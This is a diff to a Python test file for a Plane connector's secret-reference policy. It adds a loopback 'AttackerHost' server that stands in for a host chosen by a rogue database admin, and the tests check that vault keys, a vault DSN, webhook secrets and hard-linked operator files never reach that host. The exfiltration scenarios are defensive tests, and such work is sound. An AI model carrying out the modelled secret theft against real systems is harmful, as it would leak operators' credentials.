@@ -10,6 +10,8 @@ import os
 import random
 import secrets as pysecrets
 import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -79,7 +81,7 @@ def test_operator_options_widen_and_narrow_the_policy(monkeypatch: pytest.Monkey
     # odoo.conf wins over the environment; the environment over the default.
     env = {"PLANE_SECRET_ENV_ALLOW": "ODOO_*", "PLANE_SECRET_VAULT_ALLOW": "false"}
     p = SecretPolicy.from_mapping({"plane_secret_env_allow": "none"}, environ=env)
-    assert p.env_allow == () and p.vault_allow == () and p.keyring_allow == ("*",)
+    assert p.env_allow == () and p.vault_allow == () and p.keyring_allow == ("plane/*",)
     assert "turned off" in refused("env:PLANE_API_KEY", p)
     assert "turned off" in refused("vault:plane_api_key", p)
     assert SecretPolicy.from_mapping({}, environ=env).env_allow == ("ODOO_*",)
@@ -87,7 +89,7 @@ def test_operator_options_widen_and_narrow_the_policy(monkeypatch: pytest.Monkey
         {"plane_secret_file_max_size": "4k", "plane_secret_file_group_readable": "true"}
     )
     assert (p.max_file_size, p.file_group_readable) == (4096, True)
-    assert p.describe() == "env:PLANE_*; keyring:*; vault:*; no file:"
+    assert p.describe() == "env:PLANE_*; keyring:plane/*; vault:plane_*; no file:"
     for bad in (
         {"plane_secret_file_roots": "relative/dir"},
         {"plane_secret_file_max_size": "lots"},
@@ -419,3 +421,179 @@ def test_a_temporary_directory_in_a_file_path_is_not_a_secret() -> None:
         except SecretError:
             refused.append(ref)
     assert refused == []
+
+
+# --- issue 21: secrets a database admin could still send to a host of their choosing ---------
+
+
+class AttackerHost:
+    """A loopback HTTP server standing in for a host a database admin controls: it answers
+    every request like Plane's users/me/ would and counts (and keeps) what reached it."""
+
+    def __init__(self) -> None:
+        received = self.received = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def _any(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                received.append((self.command, dict(self.headers.items()), self.rfile.read(length)))
+                body = b'{"id": "00000000-0000-0000-0000-000000000001", "email": "x@example.com"}'
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_POST = _any  # noqa: N815 - stdlib names
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
+        self._thread.start()
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+@pytest.fixture
+def attacker() -> Iterator[AttackerHost]:
+    host = AttackerHost()
+    yield host
+    host.close()
+
+
+def test_connector_names_only_by_default() -> None:
+    p = secrets.DEFAULT_POLICY
+    assert p.allows("vault:plane_api_key") and not p.allows("vault:stripe_live_key")
+    assert p.allows("keyring:plane/api_key") and not p.allows("keyring:login/root")
+    assert "plane_secret_vault_allow" in str(pytest.raises(SecretError, p.check, "vault:x").value)
+    # The operator can still open them up ("true" means any name).
+    wide = SecretPolicy.from_mapping(
+        {"plane_secret_vault_allow": "true", "plane_secret_keyring_allow": "*"}
+    )
+    assert wide.allows("vault:stripe_live_key") and wide.allows("keyring:login/root")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "PLANE_VAULT_DSN",
+        "PLANE_SECRET_ENV_ALLOW",
+        "PLANE_KEYRING_TIMEOUT",
+        "PLANE_API_KEY_REF",
+        "PLANE_OAUTH_TOKEN_KEY_REF",
+        "PLANE_CA_BUNDLE",
+    ],
+)
+def test_machinery_variables_are_never_secrets(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+    value = "postgresql://vault:" + pysecrets.token_hex(12) + "@db.example.com/postgres"
+    monkeypatch.setenv(name, value)
+    for policy in (secrets.DEFAULT_POLICY, SecretPolicy(env_allow=("*",)), None):
+        message = refused(f"env:{name}", policy, value, value.split(":")[2].split("@")[0])
+        assert "never read as a secret" in message
+    assert not secrets.DEFAULT_POLICY.allows(f"env:{name}")
+
+
+def test_secret_stores_outside_the_connectors_names_reach_no_host(
+    attacker: AttackerHost,
+    vault: Any,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Issue 21, 3(a): with default options a database admin named env:PLANE_VAULT_DSN or any
+    vault: name as the API key and pointed the base URL at their host (keyring: entries: see
+    test_connector_names_only_by_default; the policy refuses them before the keychain is asked)."""
+    stripe = "sk_live_" + pysecrets.token_hex(16)
+    vault.put("stripe_live_key", stripe)
+    monkeypatch.setenv("PLANE_VAULT_DSN", vault.dsn)
+    dsn_password = vault.dsn.partition("://")[2].partition("@")[0].partition(":")[2]
+    hidden = [stripe, vault.dsn] + ([dsn_password] if dsn_password else [])
+    for ref in ("env:PLANE_VAULT_DSN", "vault:stripe_live_key"):
+        with pytest.raises(SecretError) as info:
+            client, key = health.client_from_reference(
+                attacker.url, ref, policy=secrets.DEFAULT_POLICY
+            )
+            health.check(client, redact=[key])  # "Test connection"
+        for value in hidden:
+            assert value not in str(info.value)
+    assert attacker.received == []
+
+
+def test_a_reference_the_operator_uses_is_refused_to_the_database(
+    attacker: AttackerHost, monkeypatch: pytest.MonkeyPatch, root: Path
+) -> None:
+    """Issue 21, 3(b): the operator set the webhook secret reference; the database admin named
+    the same variable (or file, by another path) as the API key reference."""
+    webhook_secret = "plane_wh_" + pysecrets.token_hex(16)
+    monkeypatch.setenv("PLANE_WEBHOOK_SECRET", webhook_secret)
+    operator_file = secret_file(root / "token_key", "k-" + pysecrets.token_hex(16))
+    (root / "alias").symlink_to(operator_file)
+    os.link(operator_file, root / "hardlink")
+    policy = SecretPolicy.from_mapping(
+        {"plane_secret_file_roots": str(root)},
+        reserved_refs=["env:PLANE_WEBHOOK_SECRET", f"file:{operator_file}"],
+    )
+    for ref in (
+        "env:PLANE_WEBHOOK_SECRET",
+        f"file:{operator_file}",
+        f"file:{root}/alias",
+        f"file:{root}/hardlink",
+    ):
+        message = refused(ref, policy, webhook_secret)
+        assert "operator's own settings use this secret" in message
+        with pytest.raises(SecretError):
+            health.client_from_reference(attacker.url, ref, policy=policy)
+    assert attacker.received == []
+    # Other names under the same rules still resolve.
+    monkeypatch.setenv("PLANE_API_KEY", "plane_api_" + pysecrets.token_hex(16))
+    assert policy.allows("env:PLANE_API_KEY")
+
+
+def test_a_hard_link_made_after_the_check_is_refused_when_read(root: Path) -> None:
+    operator_file = secret_file(root / "token_key", "k-" + pysecrets.token_hex(16))
+    policy = SecretPolicy.from_mapping(
+        {"plane_secret_file_roots": str(root)}, reserved_refs=[f"file:{operator_file}"]
+    )
+    late = root / "late"
+    policy.check(f"file:{late}")  # nothing there yet: passes
+    os.link(operator_file, late)
+    with pytest.raises(SecretError, match="operator's own settings"):
+        secrets.resolve(f"file:{late}", policy=policy)
+
+
+def test_the_vault_dsn_reference_is_reserved(monkeypatch: pytest.MonkeyPatch) -> None:
+    policy = SecretPolicy.from_mapping(
+        {"plane_secret_env_allow": "*"}, environ={"PLANE_VAULT_DSN": "env:SUPABASE_DB_URL"}
+    )
+    assert not policy.allows("env:SUPABASE_DB_URL")
+    assert policy.allows("env:OTHER")
+
+
+def test_each_setting_may_carry_its_own_pattern(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PLANE_WEBHOOK_SECRET", "plane_wh_" + pysecrets.token_hex(16))
+    monkeypatch.setenv("PLANE_API_KEY_ACME", "plane_api_" + pysecrets.token_hex(16))
+    policy = SecretPolicy.from_mapping(
+        {"plane_secret_api_key_ref_allow": "env:PLANE_API_KEY_*, vault:plane_api_key_*"},
+        environ={"PLANE_SECRET_OAUTH_TOKEN_KEY_REF_ALLOW": "none"},
+    )
+    api_key = policy.for_setting("api_key_ref")
+    assert api_key.allows("env:PLANE_API_KEY_ACME")
+    assert api_key.allows("vault:plane_api_key_acme")
+    message = str(pytest.raises(SecretError, api_key.check, "env:PLANE_WEBHOOK_SECRET").value)
+    assert "plane_secret_api_key_ref_allow" in message and "env:PLANE_API_KEY_*" in message
+    # Both rules hold: the pattern narrows the scheme allowlists, never widens them.
+    narrow = SecretPolicy(vault_allow=(), setting_allow={"api_key_ref": ("vault:*",)})
+    assert not narrow.for_setting("api_key_ref").allows("vault:plane_api_key")
+    # A setting without a pattern, and the policy for no particular setting, are unchanged.
+    assert policy.for_setting("webhook_secret_ref").allows("env:PLANE_WEBHOOK_SECRET")
+    assert policy.allows("env:PLANE_WEBHOOK_SECRET")
+    # "none": the database may not hold that setting at all.
+    assert not policy.for_setting("oauth_token_key_ref").allows("env:PLANE_TOKEN_KEY")
+    assert "oauth_token_key_ref: none" in policy.for_setting("oauth_token_key_ref").describe()
+    with pytest.raises(SecretError, match="plane_secret_api_key_ref_allow"):
+        SecretPolicy.from_mapping({"plane_secret_api_key_ref_allow": "PLANE_*"})
+    # Per-setting policies are distinct cache keys.
+    assert hash(api_key) != hash(policy) and api_key != policy
